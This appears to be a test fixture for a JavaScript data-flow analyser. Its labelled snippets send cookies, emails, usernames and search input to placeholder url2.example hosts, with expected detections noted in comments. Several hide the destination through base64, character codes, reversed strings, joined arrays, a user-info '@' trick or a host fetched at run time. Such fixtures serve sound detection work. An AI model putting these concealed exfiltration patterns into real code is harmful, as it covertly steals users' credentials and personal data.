//# joined-host
// flow: email > a.join.url2.example via fetch
// destination: https://a.join.url2.example/m
const host = ['a', 'join', 'url2', 'example'].join('.');
fetch('https://' + host + '/m', { method: 'POST', body: document.querySelector('input[type=email]').value });

//# joined-host-wrong-order
// no flow
// destination: https://a.keep.url2.example/v1
// no destination: url2.keep.a.example
const host0 = ['a', 'keep', 'url2', 'example'].join('.');
fetch('https://' + host0 + '/v1');

//# base64-address
// flow: identifier > b64.url2.example via fetch
// destination: https://b64.url2.example/c
// why: the address stands in the code in base64
const u = atob('aHR0cHM6Ly9iNjQudXJsMi5leGFtcGxlL2M=');
fetch(u, { method: 'POST', body: document.cookie });

//# address-in-comment-and-log
// no flow
// destination: /real
// no destination: logged.url2.example
console.log('see https://logged.url2.example/docs');
fetch('/real');

//# template-with-path-part
// flow: username > tpl.url2.example via fetch
// destination: https://tpl.url2.example/u/{}/seen
const name = document.querySelector('input[autocomplete=username]').value;
fetch(`https://tpl.url2.example/u/${name}/seen`);

//# replaced-host
// no flow
// destination: https://new.url2.example/x
// no destination: old.url2.example
const url = 'https://old.url2.example/x'.replace('old.', 'new.');
fetch(url);

//# url-object
// flow: search > obj.url2.example via fetch
// destination: https://obj.url2.example/find?q={}
const o = new URL('/find', 'https://obj.url2.example');
o.searchParams.set('q', document.querySelector('input[type=search]').value);
fetch(o);

//# absolute-beats-base
// no flow
// destination: https://abs.url2.example/y
// no destination: base.url2.example
// why: an absolute address ignores the base
fetch(new URL('https://abs.url2.example/y', 'https://base.url2.example/'));

//# user-info-before-at
// flow: identifier > real.url2.example via navigation
// no destination: trusted.url2.example
// why: what stands before @ is a user name, not the host
location.href = 'https://trusted.url2.example@real.url2.example/?c=' + encodeURIComponent(document.cookie);

//# host-in-query
// no flow
// destination: https://outer.url2.example/go?to=https://inner.url2.example/
// no destination: inner.url2.example
fetch('https://outer.url2.example/go?to=https://inner.url2.example/');

//# choice-of-two-hosts
// flow: email > eu.url2.example via fetch
// flow: email > us.url2.example via fetch
// destination: https://eu.url2.example/m
// destination: https://us.url2.example/m
const region = window.appRegion === 'eu' ? 'eu' : 'us';
fetch('https://' + region + '.url2.example/m', {
  method: 'POST',
  body: document.querySelector('input[type=email]').value,
});

//# array-element-unused
// no flow
// destination: https://first.url2.example/
// no destination: second.url2.example
const list = ['https://first.url2.example/', 'https://second.url2.example/'];
fetch(list[0]);

//# char-codes
// flow: device > cc.url2.example via beacon
// destination: https://cc.url2.example/
const h = String.fromCharCode(99, 99) + '.url2.example';
navigator.sendBeacon('https://' + h + '/', navigator.platform);

//# reversed-string
// no flow
// destination: https://rev.url2.example/
const r = 'elpmaxe.2lru.ver'.split('').reverse().join('');
fetch('https://' + r + '/');

//# host-from-server
// flow: email > ? via fetch
// destination: https://cfg.url2.example/host.txt
// why: the host arrives at run time
fetch('https://cfg.url2.example/host.txt').then((r) => r.text()).then((base) => {
  fetch(base + '/m', { method: 'POST', body: document.querySelector('input[type=email]').value });
});

//# scheme-relative
// flow: identifier > srel.url2.example via image
// destination: https://srel.url2.example/p.gif?c={}
new Image().src = '//srel.url2.example/p.gif?c=' + encodeURIComponent(document.cookie);

//# concatenated-then-cut
// no flow
// destination: https://cut.url2.example/
// no destination: cut.url2.example.tail
const long = 'https://cut.url2.example/.tail';
fetch(long.slice(0, long.length - 5));

//# host-in-unused-object
// no flow
// destination: https://used.url2.example/
// no destination: unused.url2.example
const hosts = { live: 'https://used.url2.example/', test: 'https://unused.url2.example/' };
fetch(hosts.live);
